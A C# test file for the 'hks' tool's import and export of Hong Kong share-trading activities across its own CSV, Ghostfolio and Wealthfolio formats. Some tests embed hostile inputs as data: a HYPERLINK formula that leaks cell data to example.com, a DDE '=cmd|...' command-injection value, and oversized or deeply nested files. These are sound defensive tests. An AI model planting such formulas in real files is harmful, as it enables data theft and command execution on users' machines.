using System.Text.Json;
using HkStrategy.Testing;

namespace HkStrategy.Cli.Tests.Activities;

/// <summary>
/// <c>hks activity import|export</c>: hks's CSV round trip, Ghostfolio's and Wealthfolio's formats both ways, a
/// preview before anything is written, importing twice changing nothing, and a file with one bad row writing nothing.
/// </summary>
public sealed class ActivityImportCommandTests
{
    private const string Positions = "SELECT symbol || ' ' || quantity || ' @ ' || avg_cost FROM portfolio_positions WHERE portfolio_id = @Id ORDER BY symbol";

    private static string Write(string name, string content)
    {
        var path = Path.Combine(Directory.CreateTempSubdirectory("hks-activities-").FullName, name);
        File.WriteAllText(path, content);
        return path;
    }

    private static async Task<TestDatabase> WithPortfolioAsync(string id = "Trades")
    {
        var db = await DemoDatabases.SeededAsync();
        Assert.Equal(0, (await db.HksAsync("portfolio", "create", id, "--name", id)).ExitCode);
        return db;
    }

    [Fact]
    public async Task HksOwnCsv_GivesTheSameLedgerInAnotherPortfolio_AndImportingItTwiceChangesNothing()
    {
        await using var db = await WithPortfolioAsync("Copy");
        await db.HksAsync("activity", "add", "My_HKEX_ALL", "--type", "buy", "--date", "2024-06-03", "--symbol", "0700", "--quantity", "100", "--price", "380.2");
        var file = Path.Combine(Directory.CreateTempSubdirectory("hks-activities-").FullName, "all.csv");
        Assert.Equal(0, (await db.HksAsync("activity", "export", "My_HKEX_ALL", "--out", file)).ExitCode);

        var first = await db.HksAsync("activity", "import", "Copy", file, "--yes");
        Assert.True(first.ExitCode == 0, first.Error);
        var again = await db.HksAsync("activity", "import", "Copy", file, "--yes", "--json");
        var same = await db.HksAsync("activity", "import", "My_HKEX_ALL", file, "--yes", "--json");

        Assert.Equal(await db.QueryAsync<string>(Positions, new { Id = "My_HKEX_ALL" }), await db.QueryAsync<string>(Positions, new { Id = "Copy" }));
        Assert.Equal(await db.QueryAsync<string>("SELECT activity_type || stamp_duty || trading_fee || commission || COALESCE(position_quantity, -1) FROM activities WHERE portfolio_id = 'My_HKEX_ALL' ORDER BY trade_date, id"),
            await db.QueryAsync<string>("SELECT activity_type || stamp_duty || trading_fee || commission || COALESCE(position_quantity, -1) FROM activities WHERE portfolio_id = 'Copy' ORDER BY trade_date, id"));
        foreach (var run in new[] { again, same })
        {
            using var json = JsonDocument.Parse(run.Out);
            Assert.Equal(0, json.RootElement.GetProperty("new").GetInt32());
            Assert.Equal(13, json.RootElement.GetProperty("duplicates").GetInt32()); // twelve opening balances and the buy
        }
    }

    [Theory]
    [InlineData("csv", "all.csv")]
    [InlineData("wealthfolio", "w.csv")]
    public async Task ANoteThatWouldRunAsASpreadsheetFormula_IsExportedAsText_AndImportedBackAsItWas(string format, string name)
    {
        await using var db = await WithPortfolioAsync();
        Assert.Equal(0, (await db.HksAsync("portfolio", "create", "Copy", "--name", "Copy")).ExitCode);
        const string Note = "=HYPERLINK(\"http://example.com/?\"&A1,\"details\")";
        Assert.Equal(0, (await db.HksAsync("activity", "add", "Trades", "--type", "buy", "--date", "2024-06-03", "--symbol", "0700", "--quantity", "100",
            "--price", "380.2", "--note", Note)).ExitCode);
        var file = Path.Combine(Directory.CreateTempSubdirectory("hks-activities-").FullName, name);
        Assert.Equal(0, (await db.HksAsync("activity", "export", "Trades", "--format", format, "--out", file)).ExitCode);

        var run = await db.HksAsync("activity", "import", "Copy", file, "--format", format, "--yes");

        Assert.True(run.ExitCode == 0, run.Error);
        Assert.DoesNotContain(",=HYPERLINK", File.ReadAllText(file), StringComparison.Ordinal);
        Assert.Contains("'=HYPERLINK", File.ReadAllText(file), StringComparison.Ordinal);
        Assert.Equal(Note, await db.ScalarAsync<string>("SELECT note FROM activities WHERE portfolio_id = 'Copy' AND activity_type = 'buy'"));
    }

    [Fact]
    public async Task AFileWithBadRows_NamesEachByItsLine_AndWritesNothing()
    {
        await using var db = await WithPortfolioAsync();
        var before = await TableSnapshot.TakeAsync(db);
        var file = Write("bad.csv", """
            date,type,symbol,quantity,price,amount,note
            2024-06-03,buy,2800.HK,5000,18.02,,
            2024-06-04,buy,2800.HK,10.5,18.00,,half a share
            2024-06-05,sell,2800.HK,6000,18.50,,
            2024-06-06,dividend,2800.HK,,,=cmd|' /C calc'!A0,
            2024-06-07,buy,MSFT,10,400,,
            """);

        var run = await db.HksAsync("activity", "import", "Trades", file, "--yes");

        Assert.Equal(2, run.ExitCode);
        Assert.Contains("line 3: quantity '10.5' is not a whole number of shares", run.Error, StringComparison.Ordinal);
        Assert.Contains("line 4: the sell of 6,000 2800.HK on 2024-06-05 is more than the 5,000 shares held then", run.Error, StringComparison.Ordinal);
        Assert.Contains("line 5: amount", run.Error, StringComparison.Ordinal);
        Assert.Contains("line 6: 'MSFT' is not an HKEX symbol", run.Error, StringComparison.Ordinal);
        Assert.Contains("[ImportHasBadRows]", run.Error, StringComparison.Ordinal);
        Assert.Equal(before, await TableSnapshot.TakeAsync(db));
    }

    [Fact]
    public async Task APreview_ShowsWhatWouldBeImported_AndWritesNothing()
    {
        await using var db = await WithPortfolioAsync();
        var before = await TableSnapshot.TakeAsync(db);
        var file = Write("trades.csv", "date,type,symbol,quantity,price\n2024-06-03,buy,2800.HK,5000,18.02\n2024-06-04,sell,2800.HK,1000,18.5\n");

        var run = await db.HksAsync("activity", "import", "Trades", file, "--preview");

        Assert.Equal(0, run.ExitCode);
        Assert.StartsWith("2 new activities, 0 already in Trades, 0 bad row(s)", run.Out, StringComparison.Ordinal);
        Assert.Contains("line 3: sell 1,000 2800.HK at 18.500 on 2024-06-04", run.Out, StringComparison.Ordinal);
        Assert.Equal(before, await TableSnapshot.TakeAsync(db));
    }

    [Fact]
    public async Task ABrokersCsv_IsReadThroughAColumnMapping()
    {
        await using var db = await WithPortfolioAsync();
        var file = Write("broker.csv", "Trade Date,Action,Stock,Shares,Price,Total Charges\n2024-06-03,buy,2800,5000,18.02,125.40\n");

        var run = await db.HksAsync("activity", "import", "Trades", file, "--yes",
            "--map", "Trade Date=date,Action=type,Stock=symbol,Shares=quantity,Price=price,Total Charges=fees");

        Assert.True(run.ExitCode == 0, run.Error);
        Assert.Equal(["2800.HK 5000 @ 18.045"], await db.QueryAsync<string>(Positions, new { Id = "Trades" })); // (90,100 + 125.40) / 5,000
    }

    [Fact]
    public async Task WealthfoliosCsv_IsImported_CashRowsWithoutASymbol()
    {
        await using var db = await WithPortfolioAsync();
        var file = Write("wealthfolio.csv", """
            date,symbol,quantity,activityType,unitPrice,currency,fee,amount
            2024-06-03,$CASH-HKD,1,DEPOSIT,1,HKD,0,100000
            2024-06-03,2800.HK,5000,BUY,18.02,HKD,100.66,
            2024-06-20,2800.HK,1,DIVIDEND,2600,HKD,0,2600
            2024-06-28,$CASH-HKD,1,INTEREST,12.5,HKD,0,12.50
            2024-07-02,2800.HK,1000,SELL,18.5,HKD,42.15,
            """);

        var run = await db.HksAsync("activity", "import", "Trades", file, "--format", "wealthfolio", "--yes");

        Assert.True(run.ExitCode == 0, run.Error);
        Assert.Equal(["deposit", "buy", "dividend", "deposit", "sell"], await db.QueryAsync<string>("SELECT activity_type FROM activities WHERE portfolio_id = 'Trades' ORDER BY trade_date, id"));
        Assert.Equal(["2800.HK 4000 @ 18.040"], await db.QueryAsync<string>(Positions, new { Id = "Trades" }));
        Assert.Equal(2600m, await db.ScalarAsync<decimal>("SELECT amount FROM activities WHERE activity_type = 'dividend'"));
    }

    [Fact]
    public async Task GhostfoliosExport_IsImported_ItsInstantsReadAsHongKongDays()
    {
        await using var db = await WithPortfolioAsync();
        var file = Write("ghostfolio.json", """
            {"meta": {"date": "2024-07-01T00:00:00.000Z", "version": "2.80.0"},
             "accounts": [{"id": "a1", "name": "IBKR"}],
             "activities": [
               {"accountId": "a1", "type": "BUY", "date": "2024-06-02T16:00:00.000Z", "symbol": "0700.HK", "dataSource": "YAHOO", "quantity": 100, "unitPrice": 380.2, "fee": 51.5, "currency": "HKD", "comment": null},
               {"accountId": "a1", "type": "DIVIDEND", "date": "2024-06-20T00:00:00.000Z", "symbol": "0700.HK", "quantity": 100, "unitPrice": 3.4, "fee": 0, "currency": "HKD"},
               {"accountId": "a1", "type": "SELL", "date": "2024-07-02T04:00:00.000+02:00", "symbol": "0700.HK", "quantity": 40, "unitPrice": 390, "fee": 20, "currency": "HKD"}
             ]}
            """);

        var run = await db.HksAsync("activity", "import", "Trades", file, "--yes", "--json");

        Assert.True(run.ExitCode == 0, run.Error);
        Assert.Equal(["buy 2024-06-03 51.50", "dividend 2024-06-20 0.00", "sell 2024-07-02 20.00"], await db.QueryAsync<string>(
            "SELECT activity_type || ' ' || trade_date || ' ' || commission FROM activities WHERE portfolio_id = 'Trades' ORDER BY trade_date, id"));
        Assert.Equal(340m, await db.ScalarAsync<decimal>("SELECT amount FROM activities WHERE activity_type = 'dividend' AND portfolio_id = 'Trades'"));
        Assert.Equal(["0700.HK 60 @ 380.715"], await db.QueryAsync<string>(Positions, new { Id = "Trades" })); // (38,020 + 51.50) / 100
    }

    [Fact]
    public async Task AWealthfolioCsvWithBadRows_NamesEachByItsLine_AndWritesNothing()
    {
        await using var db = await WithPortfolioAsync();
        var before = await TableSnapshot.TakeAsync(db);
        var file = Write("wealthfolio.csv", """
            date,symbol,quantity,activityType,unitPrice,currency,fee,amount
            2024-06-03,0700.HK,100,BUY,380.2,HKD,51.5,
            2024-06-04,0700.HK,100,SPLIT,1,HKD,0,
            2024-06-05,0700.HK,1.5,SELL,390,HKD,0,
            2024-06-06,0700.HK,200,SELL,390,HKD,0,
            06/07/2024,0700.HK,10,BUY,380,HKD,0,
            2024-06-11,0700.HK,10,BUY,380,EUR,0,
            2024-06-12,0700.HK,10,BUY,-380,HKD,0,
            """);

        var run = await db.HksAsync("activity", "import", "Trades", file, "--format", "wealthfolio", "--yes");

        Assert.Equal(2, run.ExitCode);
        Assert.Contains("line 3: activity type 'SPLIT' is not one hks keeps", run.Error, StringComparison.Ordinal);
        Assert.Contains("line 4: quantity 1.5 is not a whole number of shares", run.Error, StringComparison.Ordinal);
        Assert.Contains("line 5: the sell of 200 0700.HK on 2024-06-06 is more than the 100 shares held then", run.Error, StringComparison.Ordinal);
        Assert.Contains("line 6: '06/07/2024' is not a date (YYYY-MM-DD", run.Error, StringComparison.Ordinal); // day or month first: refused, not guessed
        Assert.Contains("line 7: currency 'EUR' is not one hks converts", run.Error, StringComparison.Ordinal);
        Assert.Contains("line 8: unitPrice '-380' is not a price", run.Error, StringComparison.Ordinal);
        Assert.DoesNotContain("line 2:", run.Error, StringComparison.Ordinal);
        Assert.Contains("[ImportHasBadRows]", run.Error, StringComparison.Ordinal);
        Assert.Equal(before, await TableSnapshot.TakeAsync(db));
    }

    [Fact]
    public async Task AGhostfolioExportWithBadActivities_NamesEachByItsPlaceInTheList_AndWritesNothing()
    {
        await using var db = await WithPortfolioAsync();
        var before = await TableSnapshot.TakeAsync(db);
        var file = Write("ghostfolio.json", """
            {"activities": [
               {"type": "BUY", "date": "2024-06-03T01:30:00.000Z", "symbol": "0700.HK", "quantity": 100, "unitPrice": 380.2, "fee": 51.5, "currency": "HKD"},
               {"type": "ITEM", "date": "2024-06-03T01:30:00.000Z", "symbol": "Watch", "quantity": 1, "unitPrice": 9000, "fee": 0, "currency": "HKD"},
               {"type": "BUY", "date": "2024-06-04T01:30:00.000Z", "symbol": "0700.HK", "quantity": "100", "unitPrice": 380, "fee": 0, "currency": "HKD"},
               42,
               {"type": "SELL", "date": "2024-06-05T01:30:00.000Z", "symbol": "0700.HK", "quantity": 150, "unitPrice": 390, "fee": 0, "currency": "HKD"},
               {"type": "BUY", "date": "yesterday", "symbol": "0700.HK", "quantity": 100, "unitPrice": 380, "fee": 0, "currency": "HKD"},
               {"type": "BUY", "date": "2024-06-06T01:30:00.000Z", "symbol": "0700.HK", "quantity": 100, "unitPrice": 1e30, "fee": 0, "currency": "HKD"}
             ]}
            """);

        var run = await db.HksAsync("activity", "import", "Trades", file, "--format", "ghostfolio", "--yes");

        Assert.Equal(2, run.ExitCode);
        Assert.Contains("line 2: activity type 'ITEM' is not one hks keeps", run.Error, StringComparison.Ordinal);
        Assert.Contains("line 3: quantity is not a number", run.Error, StringComparison.Ordinal);
        Assert.Contains("line 4: the activity is not an object", run.Error, StringComparison.Ordinal);
        Assert.Contains("line 5: the sell of 150 0700.HK on 2024-06-05 is more than the 100 shares held then", run.Error, StringComparison.Ordinal);
        Assert.Contains("line 6: 'yesterday' is not a date", run.Error, StringComparison.Ordinal);
        Assert.Contains("line 7: unitPrice is not a number", run.Error, StringComparison.Ordinal);
        Assert.DoesNotContain("line 1:", run.Error, StringComparison.Ordinal);
        Assert.Equal(before, await TableSnapshot.TakeAsync(db));
    }

    [Fact]
    public async Task ExportedForGhostfolioOrWealthfolio_AndImportedBack_GivesTheSamePositions()
    {
        await using var db = await WithPortfolioAsync();
        await db.HksAsync("activity", "add", "Trades", "--type", "buy", "--date", "2024-06-03", "--symbol", "0700", "--quantity", "100", "--price", "380.2");
        await db.HksAsync("activity", "add", "Trades", "--type", "sell", "--date", "2024-06-04", "--symbol", "0700", "--quantity", "40", "--price", "390");
        await db.HksAsync("activity", "add", "Trades", "--type", "dividend", "--date", "2024-06-20", "--symbol", "0700", "--amount", "204");
        foreach (var (format, name) in new[] { ("ghostfolio", "g.json"), ("wealthfolio", "w.csv") })
        {
            var file = Path.Combine(Directory.CreateTempSubdirectory("hks-activities-").FullName, name);
            Assert.Equal(0, (await db.HksAsync("activity", "export", "Trades", "--format", format, "--out", file)).ExitCode);
            Assert.Equal(0, (await db.HksAsync("portfolio", "create", "Back_" + format, "--name", format)).ExitCode);

            var run = await db.HksAsync("activity", "import", "Back_" + format, file, "--format", format, "--yes");

            Assert.True(run.ExitCode == 0, format + ": " + run.Error);
            Assert.Equal(await db.QueryAsync<string>(Positions, new { Id = "Trades" }), await db.QueryAsync<string>(Positions, new { Id = "Back_" + format }));
            Assert.Equal(204m, await db.ScalarAsync<decimal>("SELECT SUM(amount) FROM activities WHERE activity_type = 'dividend' AND portfolio_id = @Id", new { Id = "Back_" + format }));
        }
    }

    [Theory]
    [InlineData("nolines.csv", "csv")]
    [InlineData("array.json", "ghostfolio")]
    [InlineData("deep.json", "ghostfolio")]
    [InlineData("notjson.json", "ghostfolio")]
    [InlineData("header.csv", "wealthfolio")]
    public async Task AHostileFile_IsOneLine_AndWritesNothing(string name, string format)
    {
        await using var db = await WithPortfolioAsync();
        var content = name switch
        {
            "nolines.csv" => "date,type\n" + new string('a', 3 * 1024 * 1024),
            "array.json" => "[{\"type\": \"BUY\"}]",
            "deep.json" => new string('[', 5000) + new string(']', 5000),
            "notjson.json" => "{\"activities\": [",
            _ => "date,ticker,shares\n2024-06-03,0700.HK,100\n",
        };
        var file = Write(name, content);

        var run = await db.HksAsync("activity", "import", "Trades", file, "--format", format, "--yes");

        Assert.Equal(name == "nolines.csv" ? 4 : 2, run.ExitCode); // a line past the limit is refused as not a file hks reads
        Assert.Matches(@"\[[A-Za-z]+\]$", run.ErrorLines[^1]); // a header's problem is its line 1, then the one-line refusal
        Assert.DoesNotContain("   at ", run.Error, StringComparison.Ordinal);
        Assert.Equal(0, await db.ScalarAsync<long>("SELECT COUNT(*) FROM activities WHERE portfolio_id = 'Trades'"));
    }

    [Fact]
    public async Task AFileNotInDateOrder_IsPlannedWhole_AndImportedAsOneInDateOrder()
    {
        await using var db = await WithPortfolioAsync();
        await using var sorted = await WithPortfolioAsync("Sorted");
        const string Header = "date,type,symbol,quantity,price\n";
        const string Sale = "2024-06-05,sell,2800.HK,1000,18.5\n";
        const string Purchase = "2024-06-03,buy,2800.HK,5000,18.02\n";

        var run = await db.HksAsync("activity", "import", "Trades", Write("newest-first.csv", Header + Sale + Purchase), "--yes");
        var inOrder = await sorted.HksAsync("activity", "import", "Sorted", Write("oldest-first.csv", Header + Purchase + Sale), "--yes");

        Assert.True(run.ExitCode == 0, run.Error);
        Assert.True(inOrder.ExitCode == 0, inOrder.Error);
        Assert.Contains("imported 2 activities into Trades", run.Out, StringComparison.Ordinal);
        Assert.Equal(4000, await db.ScalarAsync<int>("SELECT quantity FROM portfolio_positions WHERE portfolio_id = 'Trades' AND symbol = '2800.HK'"));
        Assert.Equal(await sorted.QueryAsync<string>(Positions, new { Id = "Sorted" }), await db.QueryAsync<string>(Positions, new { Id = "Trades" }));
    }

    [Fact]
    public async Task AMappingToAFieldHksDoesNotKnow_IsRefused()
    {
        await using var db = await WithPortfolioAsync();
        var file = Write("x.csv", "a,b\n1,2\n");

        var run = await db.HksAsync("activity", "import", "Trades", file, "--map", "a=date,b=password");

        Assert.Equal(2, run.ExitCode);
        Assert.Contains("[InvalidMapping]", run.Error, StringComparison.Ordinal);
    }
}
